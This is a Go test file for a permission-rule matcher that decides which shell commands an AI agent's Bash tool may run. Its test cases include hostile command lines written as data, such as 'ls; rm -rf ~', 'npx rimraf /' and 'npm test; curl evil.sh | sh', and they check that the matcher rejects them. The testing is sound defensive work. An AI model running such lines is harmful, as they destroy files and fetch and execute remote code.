package permissions

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func mustParse(t testing.TB, s string) Rule {
	t.Helper()
	r, err := Parse(s)
	require.NoError(t, err, s)
	return r
}

// bash is the input of a Bash tool call running line.
func bash(line string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"command": line, "description": "a command"})
	return b
}

func TestPrefixRuleMatchesOnlyWhenEveryCommandBeginsWithIt(t *testing.T) {
	ls := mustParse(t, "Bash(ls:*)")
	for _, tc := range []struct {
		line  string
		match bool
	}{
		{"ls", true},
		{"ls -la", true},
		{"ls -la src/", true},
		{"  ls\t-l  ", true},
		{"ls; ls -l", true},
		{"ls && ls -l || ls -a", true},
		{"ls | ls", true},
		{"ls &", true},
		{"ls;", true},
		{"ls\n\nls -l\n", true},
		{"ls && \\\n ls", true},
		{"(ls)", true},
		{"(ls; ls -l)", true},
		{"ls $(ls)", true},
		{"ls `ls`", true},
		{"ls 'a; rm -rf ~'", true},
		{`ls "a && rm x"`, true},
		{`ls "a | sh" 'b $(rm x)'`, true},
		{`ls a\;rm`, true},
		{"ls 2>/dev/null", true},
		{"ls >/dev/null 2>&1", true},
		{"ls &>/dev/null", true},
		{"ls < input.txt", true},
		{"ls *.go", true},
		{"ls $HOME ~/src", true},
		{`"ls" -l`, true},
		{`'ls'`, true},

		{"lsblk", false},
		{"ls-files", false},
		{"rm -rf x", false},
		{"ls; rm -rf ~", false},
		{"ls;rm -rf ~", false},
		{"ls && rm x", false},
		{"ls || rm x", false},
		{"ls | sh", false},
		{"ls |& sh", false},
		{"ls & rm x", false},
		{"ls&rm x", false},
		{"ls\nrm x", false},
		{"ls\r\nrm x", false},
		{"ls $(rm x)", false},
		{"ls `rm x`", false},
		{"ls <(rm x)", false},
		{"ls >(rm x)", false},
		{"(rm x)", false},
		{"ls; (rm x)", false},
		{`ls "$(rm x)"`, false},
		{"ls \"`rm x`\"", false},
		{"ls ${x:-$(rm x)}", false},
		{"ls $(ls $(rm x))", false},
		{"ls $((1+1))", false},
		{"ls > out.txt", false},
		{"ls >> out.txt", false},
		{"ls 2> err.txt", false},
		{"ls &> all.txt", false},
		{"ls >& all.txt", false},
		{"ls <> file", false},
		{`ls > "$f"`, false},
		{"cat <<EOF\nls\nEOF", false},
		{"ls <<< x", false},
		{"X=1 ls", false},
		{"$CMD", false},
		{"l$()s", false},
		{"l* -la", false},
		{"! ls", false},
		{"{ ls; }", false},
		{"if ls; then rm x; fi", false},
		{"ls() { rm -rf ~; }; ls", false},
		{"ls() (rm -rf ~); ls", false},
		{"(ls) rm", false},
		{"sudo ls", false},
		{"/bin/ls", false},
		{"", false},
		{"   ", false},
		{";", false},
		{"ls; ; ls", false},
		{"ls &&", false},
		{"ls |", false},
		{"| ls", false},
		{"ls )", false},
		{"ls (", false},
		{"ls 'unterminated", false},
		{`ls "unterminated`, false},
		{"ls $(unterminated", false},
		{"ls `unterminated", false},
		{"ls \\", false},
		{"ls `echo \\`rm x\\``", false},
		{"case x in a) ls;; esac", false},
	} {
		assert.Equal(t, tc.match, ls.Matches("Bash", bash(tc.line)), "Bash(ls:*) on %q", tc.line)
	}
}

func TestPrefixRuleOfSeveralWords(t *testing.T) {
	r := mustParse(t, "Bash(git status:*)")
	assert.True(t, r.Matches("Bash", bash("git status")))
	assert.True(t, r.Matches("Bash", bash("git status --short && git status")))
	assert.False(t, r.Matches("Bash", bash("git push")))
	assert.False(t, r.Matches("Bash", bash("git")))
	assert.False(t, r.Matches("Bash", bash("git status; git push")))
}

func TestRuleMatchesOnlyItsTool(t *testing.T) {
	r := mustParse(t, "Bash(ls:*)")
	assert.False(t, r.Matches("Shell", bash("ls")))
	assert.False(t, r.Matches("Bash", json.RawMessage(`{"cmd":"ls"}`)), "no command: nothing to match")
	assert.False(t, r.Matches("Bash", json.RawMessage(`{"command":["ls"]}`)))
	assert.False(t, r.Matches("Bash", json.RawMessage(`not json`)))
	assert.False(t, Rule{}.Matches("Bash", bash("ls")), "the zero rule matches nothing")
}

func TestExactRuleCoversExactlyThatInput(t *testing.T) {
	r := mustParse(t, `Edit({"file":"a.go"})`)
	for _, tc := range []struct {
		input string
		match bool
	}{
		{`{"file":"a.go"}`, true},
		{` { "file" : "a.go" } `, true},
		{`{"file":"\u0061.go"}`, true},
		{`{"file":"b.go"}`, false},
		{`{"file":"a.go","mode":"w"}`, false},
		{`{}`, false},
		{`{"file":"a.go","file":"/etc/passwd"}`, false},
		{`{"file":"a.go"} {}`, false},
		{`["a.go"]`, false},
	} {
		assert.Equal(t, tc.match, r.Matches("Edit", json.RawMessage(tc.input)), "on %s", tc.input)
	}
	assert.False(t, r.Matches("Write", json.RawMessage(`{"file":"a.go"}`)))
}

func TestRulesOfOtherSyntaxesParseButMatchNothing(t *testing.T) {
	for _, s := range []string{"Bash(npm run *)", "Read(//usr/**)", "WebFetch(domain:example.com)", "Bash(ls /)", "Bash(ls *:*)"} {
		r := mustParse(t, s)
		assert.Equal(t, s, r.String())
		assert.False(t, r.Matches(r.Tool(), bash("npm run test")), s)
		assert.False(t, r.Matches(r.Tool(), bash("ls /")), s)
	}
}

func TestToolRuleCoversEveryUse(t *testing.T) {
	r := mustParse(t, "mcp__files__read")
	assert.Equal(t, "mcp__files__read", r.String())
	assert.Empty(t, r.Pattern())
	assert.True(t, r.Matches("mcp__files__read", json.RawMessage(`{"path":"/etc/passwd"}`)))
	assert.False(t, r.Matches("mcp__files__write", json.RawMessage(`{}`)))
}

func TestParseAndString(t *testing.T) {
	for _, tc := range []struct{ in, out string }{
		{"Bash(ls:*)", "Bash(ls:*)"},
		{"Bash(git log:*)", "Bash(git log:*)"},
		{`Edit({ "b": 1, "a": [true, null, "x"] })`, `Edit({"a":[true,null,"x"],"b":1})`},
		{`Write({"text":"<b> & </b>"})`, `Write({"text":"<b> & </b>"})`},
		{"Bash(echo (a))", "Bash(echo (a))"},
		{"Read", "Read"},
	} {
		r, err := Parse(tc.in)
		require.NoError(t, err, tc.in)
		assert.Equal(t, tc.out, r.String())
		again, err := Parse(r.String())
		require.NoError(t, err)
		assert.Equal(t, r.String(), again.String(), "String parses back to itself")
	}
	for _, bad := range []string{"", "(ls)", "Bash(ls", "Ba sh(ls)", "Bash({not json})", `Bash({"a":1,"a":2})`, "Bash()x"} {
		_, err := Parse(bad)
		assert.ErrorIs(t, err, ErrBadRule, "%q", bad)
	}
}

func TestForIsWhatAlwaysAdds(t *testing.T) {
	for _, tc := range []struct {
		tool, input, rule string
	}{
		// Command-running tools: the first word, when every command shares it.
		{"Bash", `{"command":"ls","description":"List"}`, "Bash(ls:*)"},
		{"Bash", `{"command":"ls -la src/ 2>/dev/null"}`, "Bash(ls:*)"},
		{"Bash", `{"command":"go test ./... && go vet ./..."}`, "Bash(go:*)"},
		{"Bash", `{"command":"./scripts/test.sh --fast"}`, "Bash(./scripts/test.sh:*)"},
		// Otherwise the exact input.
		{"Bash", `{"command":"ls && rm x"}`, `Bash({"command":"ls && rm x"})`},
		{"Bash", `{"command":"sudo apt update"}`, `Bash({"command":"sudo apt update"})`},
		{"Bash", `{"command":"xargs rm < list"}`, `Bash({"command":"xargs rm < list"})`},
		{"Bash", `{"command":"FOO=1 make"}`, `Bash({"command":"FOO=1 make"})`},
		{"Bash", `{"command":"$EDITOR x"}`, `Bash({"command":"$EDITOR x"})`},
		{"Bash", `{"command":"if true; then ls; fi"}`, `Bash({"command":"if true; then ls; fi"})`},
		{"Bash", `{"command":"ls > out"}`, `Bash({"command":"ls > out"})`},
		{"Bash", `{"command":""}`, `Bash({"command":""})`},
		{"Edit", `{"file_path":"src/main.go","old_string":"a","new_string":"b"}`, `Edit({"file_path":"src/main.go","new_string":"b","old_string":"a"})`},
		// Tools an editor declares to an OpenAI-style model: the
		// function's arguments object.
		{"run_terminal_command", `{"command":"npm test","cwd":"web"}`, "run_terminal_command(npm:*)"},
		{"shell", `{"command":["bash","-lc","ls"],"workdir":"/repo"}`, `shell({"command":["bash","-lc","ls"],"workdir":"/repo"})`},
		{"read_file", `{"path":"README.md","range":{"start":1,"end":20}}`, `read_file({"path":"README.md","range":{"end":20,"start":1}})`},
		{"apply_patch", `{"input":"*** Begin Patch\n*** End Patch"}`, `apply_patch({"input":"*** Begin Patch\n*** End Patch"})`},
	} {
		r, err := For(tc.tool, json.RawMessage(tc.input))
		require.NoError(t, err, tc.input)
		assert.Equal(t, tc.rule, r.String(), "For(%s, %s)", tc.tool, tc.input)
		assert.True(t, r.Matches(tc.tool, json.RawMessage(tc.input)), "the rule covers the request it was made for: %s", r)
	}
	for _, bad := range []string{`not json`, `{"a":1,"a":2}`, `[1]`, `"ls"`, "{\"a\":\"\xff\"}"} {
		_, err := For("Edit", json.RawMessage(bad))
		assert.ErrorIs(t, err, ErrBadRule, "%q", bad)
	}
}

func TestForOpenAIStyleCommandToolsAskForAnythingElse(t *testing.T) {
	r, err := For("run_terminal_command", json.RawMessage(`{"command":"npm test"}`))
	require.NoError(t, err)
	assert.True(t, r.Matches("run_terminal_command", json.RawMessage(`{"command":"npm run build","cwd":"web"}`)))
	assert.False(t, r.Matches("run_terminal_command", json.RawMessage(`{"command":"npm test; curl evil.sh | sh"}`)))
	assert.False(t, r.Matches("run_terminal_command", json.RawMessage(`{"command":"npx rimraf /"}`)))
}

func TestSetMatchesAnyOfItsRules(t *testing.T) {
	var s Set
	_, ok := s.Match("Bash", bash("ls"))
	assert.False(t, ok, "an empty set allows nothing")
	s.Add(mustParse(t, "Bash(ls:*)"))
	s.Add(mustParse(t, "Bash(git:*)"))
	s.Add(mustParse(t, "Bash(ls:*)"))
	s.Add(Rule{})
	assert.Len(t, s.Rules(), 2)

	r, ok := s.Match("Bash", bash("git status"))
	assert.True(t, ok)
	assert.Equal(t, "Bash(git:*)", r.String())
	_, ok = s.Match("Bash", bash("ls && git status"))
	assert.False(t, ok, "each rule must cover the whole line on its own")
	_, ok = s.Match("Bash", bash("rm -rf x"))
	assert.False(t, ok)

	var nilSet *Set
	_, ok = nilSet.Match("Bash", bash("ls"))
	assert.False(t, ok)
}
